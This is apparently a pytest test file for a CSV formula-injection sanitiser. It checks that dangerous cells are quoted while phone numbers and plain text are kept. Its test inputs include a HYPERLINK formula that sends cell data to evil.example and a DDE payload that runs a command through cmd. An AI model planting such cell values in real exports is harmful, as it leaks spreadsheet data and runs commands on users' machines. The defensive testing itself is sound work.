"""A CSV cell a spreadsheet would run as a formula is quoted; numbers and phones are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from counter_app.documents.spreadsheet_text import FORMULA_STARTS, formula_safe


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
        "-2+3+cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_text_gets_a_leading_apostrophe(typed: str) -> None:
    assert formula_safe(typed) == "'" + typed


@pytest.mark.parametrize("plain", ["+84 912 345 678", "-5", "0912345678", "Số 7 phố Hàng Bạc"])
def test_numbers_phones_and_ordinary_text_are_kept(plain: str) -> None:
    assert formula_safe(plain) == plain


def test_values_that_are_not_text_are_kept() -> None:
    assert formula_safe(7) == 7 and formula_safe(None) is None


@given(st.text())
def test_no_quoted_cell_starts_a_formula(text: str) -> None:
    safe = formula_safe(text)
    assert isinstance(safe, str)
    if safe.startswith(FORMULA_STARTS):
        assert safe == text and text.lstrip("+-")[:1].isdigit()
